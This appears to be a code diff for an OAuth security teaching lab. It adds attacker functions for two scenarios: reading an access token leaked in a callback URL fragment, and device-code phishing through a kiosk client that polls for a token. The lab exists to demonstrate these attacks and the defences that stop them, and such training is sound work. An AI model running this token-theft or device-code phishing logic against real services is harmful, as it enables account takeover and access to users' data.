@@ -138,3 +138,68 @@ export async function useStolenRefreshToken(config: AttackerConfig, refreshToken
   const redemption = await readPhotos(config, body.access_token, `She refreshed with the stolen token${rotated ? ' (and got a new refresh token: rotation)' : ' (the same refresh token keeps working: no rotation)'}`);
   return { redemption, next };
 }
+
+/**
+ * Scenario 6, implicit leakage (RFC 9700 §2.1.2): her "filter widget", a third-party script on the lab copy's
+ * callback page, reports the page's full address. An access token in the fragment is hers at once; a code is
+ * worthless to her without its code_verifier.
+ */
+export async function useLeakedAddress(config: AttackerConfig, address: string): Promise<Redemption> {
+  let url: URL;
+  try {
+    url = new URL(address);
+  } catch {
+    return { success: false, summary: 'Her widget sent nothing useful.', details: [] };
+  }
+  const fragment = new URLSearchParams(url.hash.slice(1));
+  const token = fragment.get('access_token');
+  if (token) {
+    const result = await readPhotos(config, token, 'Her widget read the access token from the address (the fragment) and she used it');
+    return { ...result, details: ['Address seen by her script: …#access_token=…', ...result.details] };
+  }
+  const code = url.searchParams.get('code');
+  if (code) {
+    const tried = await redeemStolenCode(config, code, { redirect_uri: `${url.origin}${url.pathname}` });
+    return { ...tried, summary: `Her widget read a code from the address, but: ${tried.summary}`, details: ['There is no token in the address of the code flow, and the code needs the code_verifier, which never left the printer.', ...tried.details] };
+  }
+  return { success: false, summary: 'Her widget found neither a token nor a code in the address.', details: [] };
+}
+
+export interface DeviceAuthorization {
+  device_code: string;
+  user_code: string;
+  verification_uri: string;
+  expires_in: number;
+  interval: number;
+}
+
+/** Scenario 8, device code phishing (RFC 8628 §5.4): her "kiosk" starts a device flow, as any kiosk can. */
+export async function startDeviceFlow(config: AttackerConfig): Promise<DeviceAuthorization> {
+  const response = await fetch(`${config.auth.internalUrl}/device_authorization`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams({ client_id: config.kioskClientId, scope: 'photos.read' }).toString(),
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json()) as Partial<DeviceAuthorization>;
+  if (response.status !== 200 || typeof body.device_code !== 'string' || typeof body.user_code !== 'string' || typeof body.verification_uri !== 'string') {
+    throw new Error(`The auth server did not start a device flow (HTTP ${response.status}).`);
+  }
+  return { device_code: body.device_code, user_code: body.user_code, verification_uri: body.verification_uri, expires_in: Number(body.expires_in) || 600, interval: Number(body.interval) || 5 };
+}
+
+/** One poll of the token endpoint (RFC 8628 §3.4): a result, or 'pending' / 'slow_down'. */
+export async function pollDeviceFlow(config: AttackerConfig, deviceCode: string): Promise<Redemption | 'pending' | 'slow_down'> {
+  const response = await fetch(`${config.auth.internalUrl}/token`, {
+    method: 'POST',
+    headers: { 'content-type': 'application/x-www-form-urlencoded' },
+    body: new URLSearchParams({ grant_type: 'urn:ietf:params:oauth:grant-type:device_code', device_code: deviceCode, client_id: config.kioskClientId }).toString(),
+    signal: AbortSignal.timeout(config.httpTimeoutMs),
+  });
+  const body = (await response.json().catch(() => ({}))) as Record<string, unknown>;
+  if (response.status === 200 && typeof body.access_token === 'string') return readPhotos(config, body.access_token, 'Her kiosk got a token: you approved it');
+  if (body.error === 'authorization_pending') return 'pending';
+  if (body.error === 'slow_down') return 'slow_down';
+  const error = typeof body.error === 'string' ? body.error : `HTTP ${response.status}`;
+  return { success: false, summary: `Her kiosk got no token: ${error}.`, details: [typeof body.error_description === 'string' ? body.error_description : ''] };
+}
